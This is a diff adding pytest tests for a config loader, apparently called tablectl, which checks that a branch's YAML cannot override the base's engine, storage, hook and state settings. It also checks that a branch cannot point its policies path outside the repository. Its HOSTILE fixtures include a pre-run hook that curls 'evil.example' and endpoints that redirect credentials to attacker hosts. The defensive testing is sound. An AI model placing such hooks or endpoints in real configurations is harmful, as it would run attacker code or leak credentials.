@@ -1,0 +1,87 @@
+"""What the configuration of a branch may decide before it is merged."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tablectl.model.errors import InputError
+from tablectl.policies.branch import combined, ignored
+from tablectl.policies.config import ignored_keys, load_config
+
+BASE = "engine: {catalog: lake}\nstores: {gs: {user_agent: lake}}\nreports: {mask: ['*token*']}\npolicies: policies\n"
+
+
+@pytest.fixture
+def files(tmp_path: Path) -> Path:
+    (tmp_path / "base.yaml").write_text(BASE)
+    return tmp_path
+
+
+def environ(files: Path) -> dict[str, str]:
+    return {"TABLECTL_BASE_CONFIG": str(files / "base.yaml")}
+
+
+HOSTILE = {
+    "engine": "{remote: 'sc://evil:1'}",
+    "stores": "{gs: {base_url: 'https://evil.example'}}",
+    "window": "{before: [[curl, evil.example]]}",
+    "state": "s3://evil/leases",
+}
+
+
+@pytest.mark.parametrize("key", HOSTILE)
+@pytest.mark.parametrize("env", ["", "prod"])
+def test_what_runs_code_or_directs_credentials_is_that_of_the_base(files: Path, key: str, env: str) -> None:
+    line = f"{key}: {HOSTILE[key]}\n"
+    (files / "tablectl.yaml").write_text(f"env: {{prod: {{{line.strip()}}}}}\n" if env else line)
+    ours = load_config(files, environ(files), env)
+    (files / "tablectl.yaml").write_text("env: {prod: {}}\n")
+    assert ours == load_config(files, environ(files), env) or not env
+    assert (ours.engine.remote, dict(ours.stores.gs), ours.window.before, ours.state) == (
+        None,
+        {"user_agent": "lake"},
+        (),
+        None,
+    )
+    assert ours.engine.catalog == "lake"
+
+
+def test_policies_variables_and_lint_are_those_of_the_branch(files: Path) -> None:
+    (files / "tablectl.yaml").write_text("policies: mine\nvariables: {A: b}\nlint: {L001: warning}\n")
+    config = load_config(files, environ(files))
+    assert (config.policies, config.variables, list(config.lint)) == ("mine", {"A": "b"}, ["L001"])
+    assert ignored_keys(files, environ(files)) == ("engine", "reports", "stores")
+    assert ignored_keys(files, {}) == ()
+
+
+@pytest.mark.parametrize("path", ["/proc/self", "../elsewhere", "a/../../b", "C:\\secrets"])
+def test_policies_of_a_branch_stay_inside_the_repository(files: Path, path: str) -> None:
+    (files / "tablectl.yaml").write_text(f"policies: '{path}'\n")
+    assert load_config(files, environ(files)).policies == "policies"
+
+
+def test_a_branch_adds_masks_and_takes_none_away(files: Path) -> None:
+    (files / "tablectl.yaml").write_text("reports: {mask: ['*password*']}\n")
+    assert load_config(files, environ(files)).reports.mask == ("*token*", "*password*")
+
+
+def test_what_is_wrong_in_a_key_that_does_not_count_is_wrong_too(files: Path) -> None:
+    (files / "tablectl.yaml").write_text("engine: {dialekt: oss}\n")
+    with pytest.raises(InputError, match=r"tablectl\.yaml:1:10: .*dialekt"):
+        load_config(files, environ(files))
+
+
+def test_a_base_that_is_not_there_is_an_error(files: Path) -> None:
+    with pytest.raises(InputError, match="TABLECTL_BASE_CONFIG names"):
+        load_config(files, {"TABLECTL_BASE_CONFIG": str(files / "none.yaml")})
+
+
+def test_environments_are_those_of_the_branch_with_the_keys_of_the_base() -> None:
+    base = {"env": {"prod": {"engine": {"remote": "sc://ours"}}, "old": {}}}
+    branch = {"env": {"prod": {"variables": {"A": "b"}, "state": "s3://x/y"}, "new": {"state": "s3://x/y"}}}
+    assert combined(branch, base) == {
+        "env": {"prod": {"variables": {"A": "b"}, "engine": {"remote": "sc://ours"}}, "new": {}}
+    }
+    assert ignored(branch, base) == ("env.prod.engine", "env.prod.state", "env.new.state")
